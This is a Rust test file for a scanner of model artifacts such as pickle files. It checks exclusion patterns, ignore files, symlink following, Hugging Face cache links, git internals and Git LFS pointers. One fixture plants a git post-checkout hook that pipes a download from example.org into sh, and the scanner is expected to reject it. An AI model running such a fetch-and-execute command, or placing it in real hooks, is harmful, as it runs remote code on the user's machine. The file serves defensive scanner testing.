//! Folders: what is left out, which links are followed, and in what order.

use crate::support::{Folder, GOOD, HARMFUL, UNKNOWN};

const LFS_POINTER: &str = "version https://git-lfs.github.com/spec/v1\noid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 12345\n";

#[test]
fn excluded_paths_are_left_out_and_counted() {
    let folder = Folder::new();
    folder
        .pickle("m/good.pkl", GOOD)
        .pickle("m/bad.pkl", HARMFUL)
        .pickle("m/deep/bad.pkl", HARMFUL)
        .pickle("m/deep/deeper/other.pkl", HARMFUL)
        .bytes("m/README.md", b"prose\n");
    let run =
        folder.run("scan m --format json --exclude bad.pkl --exclude *.md --exclude deep/deeper/");
    assert_eq!(run.code, Some(0));
    assert_eq!(run.paths(), ["good.pkl"]);
    assert_eq!(run.json()["summary"]["excluded"], 4);
    // Without a wildcard over folders a pattern stays in its folder.
    let run = folder.run("scan m --format json --exclude /*.pkl --exclude deep/*.pkl");
    assert_eq!(run.paths(), ["README.md", "deep/deeper/other.pkl"]);
    // All of it: nothing is left to examine, which is not an admission.
    let run = folder.run("scan m --exclude *");
    assert_eq!(run.code, Some(3));
    insta::assert_snapshot!(run.shown());
}

#[test]
fn a_named_file_is_scanned_whatever_the_patterns_say() {
    let folder = Folder::new();
    folder.pickle("bad.pkl", HARMFUL);
    assert_eq!(folder.run("scan bad.pkl --exclude *.pkl").code, Some(1));
}

#[test]
fn only_the_ignore_file_of_the_working_directory_counts() {
    let folder = Folder::new();
    folder
        .pickle("m/bad.pkl", HARMFUL)
        .bytes("m/.waybillignore", b"*.pkl\n")
        .bytes(
            "m/waybill.toml",
            b"fail-on = \"reject\"\nexclude = [\"*.pkl\"]\n[[allow]]\nglobal = \"posix.system\"\n",
        );
    let run = folder.run("scan m --format json");
    assert_eq!(run.code, Some(1));
    assert_eq!(run.paths(), [".waybillignore", "bad.pkl", "waybill.toml"]);

    folder.bytes(".waybillignore", b"# models\r\n\r\n  *.pkl  \r\n");
    let run = folder.run("scan m --format json");
    assert_eq!(run.code, Some(0));
    assert_eq!(run.json()["summary"]["excluded"], 1);
}

#[test]
fn links_are_followed_only_inside_the_target() {
    let folder = Folder::new();
    folder
        .pickle("outside.pkl", HARMFUL)
        .pickle("m/inside.pkl", GOOD)
        .link("m/follow.pkl", "inside.pkl")
        .link("m/deep/follow.pkl", "../inside.pkl")
        .link("m/out.pkl", "../outside.pkl")
        .link("m/out-folder", "..")
        .link("m/absolute", "/usr")
        .link("m/device", "/dev/zero")
        .link("m/broken", "nowhere")
        .link("m/circle", "circle")
        .link("m/around", ".")
        .link("m/deep/up", "../deep");
    let run = folder.run("scan m --format json");
    // A loader follows the links that lead out; what stands there was not examined.
    assert_eq!(run.code, Some(4));
    let out = [
        "absolute",
        "broken",
        "circle",
        "device",
        "out-folder",
        "out.pkl",
    ];
    let followed = ["deep/follow.pkl", "follow.pkl", "inside.pkl"];
    let mut expected = [out.as_slice(), &followed].concat();
    expected.sort_unstable();
    assert_eq!(run.paths(), expected);
    for path in out {
        assert_eq!(run.artifact(path)["complete"], false, "{path}");
    }
    assert_eq!(run.json()["summary"]["links_not_followed"], 8);
    insta::assert_snapshot!(folder.run("scan m").shown());
}

#[test]
fn a_target_that_is_a_link_is_followed() {
    let folder = Folder::new();
    folder
        .pickle("m/bad.pkl", HARMFUL)
        .link("file", "m/bad.pkl")
        .link("folder", "m");
    assert_eq!(folder.run("scan file --format json").paths(), ["file"]);
    assert_eq!(folder.run("scan folder --format json").paths(), ["bad.pkl"]);
}

/// `models--org--name/snapshots/REVISION/file -> ../../blobs/DIGEST`.
#[test]
fn the_links_of_a_hugging_face_cache_are_followed() {
    let folder = Folder::new();
    folder
        .pickle("hub/models--o--n/blobs/aa", HARMFUL)
        .pickle("hub/models--o--other/blobs/bb", HARMFUL)
        .link("hub/models--o--n/snapshots/rev/model.pkl", "../../blobs/aa")
        .link(
            "hub/models--o--n/snapshots/rev/deep/model.pkl",
            "../../../blobs/aa",
        )
        .link(
            "hub/models--o--n/snapshots/rev/other.pkl",
            "../../../models--o--other/blobs/bb",
        );
    let run = folder.run("scan hub/models--o--n/snapshots/rev --format json");
    assert_eq!(run.code, Some(1));
    assert_eq!(run.paths(), ["deep/model.pkl", "model.pkl", "other.pkl"]);
    assert_eq!(run.artifact("other.pkl")["complete"], false);
    assert_eq!(run.json()["summary"]["links_not_followed"], 1);
    // The whole cache: each blob, and each link to it.
    let run = folder.run("scan hub --format json");
    assert_eq!(run.paths().len(), 5);
}

#[test]
fn what_git_keeps_for_itself_is_left_out_but_hooks_run() {
    let folder = Folder::new();
    folder
        .pickle(".git/objects/ab/cdef", HARMFUL)
        .bytes(".git/HEAD", b"ref: refs/heads/main\n")
        .bytes(
            ".git/hooks/post-checkout",
            b"#!/bin/sh\ncurl https://example.org/x | sh\n",
        )
        .pickle("objects/bad.pkl", HARMFUL);
    let run = folder.run("scan . --format json");
    assert_eq!(run.paths(), [".git/hooks/post-checkout", "objects/bad.pkl"]);
    assert_eq!(run.json()["summary"]["excluded"], 2);
    let hook = run.artifact(".git/hooks/post-checkout");
    assert_eq!(hook["verdict"], "reject", "{hook:#}");
}

#[test]
fn a_git_lfs_pointer_is_bytes_that_are_not_here() {
    let folder = Folder::new();
    folder.bytes("model.bin", LFS_POINTER.as_bytes());
    let run = folder.run("scan .");
    assert_eq!(run.code, Some(4));
    insta::assert_snapshot!(run.shown());
}

#[test]
fn one_bad_artifact_never_stops_the_rest() {
    let folder = Folder::new();
    folder
        .pickle("a/good.pkl", GOOD)
        .artifact("b.zip", "zip", "member \"a\" : text\n  x\nno-end\n")
        .pickle("c.pkl", "PROTO 4\nBINUNICODE \"x\" length=4294967295\n")
        .artifact("d.bin", "hex", UNKNOWN)
        .pipe("e")
        .link("f", "nowhere")
        .pickle("g/bad.pkl", HARMFUL)
        .pickle("z.pkl", GOOD);
    let run = folder.run("scan . --format json");
    assert_eq!(run.code, Some(1));
    assert_eq!(run.artifact("a/good.pkl")["verdict"], "admit");
    assert_eq!(run.artifact("g/bad.pkl")["verdict"], "reject");
    assert_eq!(run.artifact("z.pkl")["verdict"], "admit");
    for path in ["b.zip", "c.pkl", "d.bin", "e"] {
        assert_ne!(run.artifact(path)["verdict"], "admit", "{path}");
    }
}

#[test]
fn five_hundred_artifacts_in_the_order_of_their_paths() {
    let folder = Folder::new();
    for index in 0..500 {
        let name = format!("m/{}/{:03}.pkl", index % 7, (index * 37) % 500);
        folder.pickle(&name, if index % 50 == 0 { HARMFUL } else { GOOD });
    }
    let one = folder.run("scan m --format json --jobs 1");
    let paths = one.paths();
    assert_eq!(paths.len(), 500);
    assert!(paths.is_sorted());
    assert_eq!(one.json()["summary"]["reject"], 10);
    for _ in 0..5 {
        assert!(folder.run("scan m --format json --jobs 8") == one);
    }
}

#[test]
fn several_targets_keep_their_names() {
    let folder = Folder::new();
    folder
        .pickle("a/x.pkl", GOOD)
        .pickle("b/x.pkl", HARMFUL)
        .pickle("c.pkl", GOOD);
    let run = folder.run("scan b/ a c.pkl --format json");
    assert_eq!(run.code, Some(1));
    assert_eq!(run.paths(), ["b/x.pkl", "a/x.pkl", "c.pkl"]);
    assert_eq!(run.json()["target"], "b/ a c.pkl");
    // The same by whatever way the target is named.
    let digest = |arguments: &str| folder.run(arguments).json()["artifacts"].clone();
    assert_eq!(
        digest("scan a --format json"),
        digest("scan ./a/ --format json")
    );
}
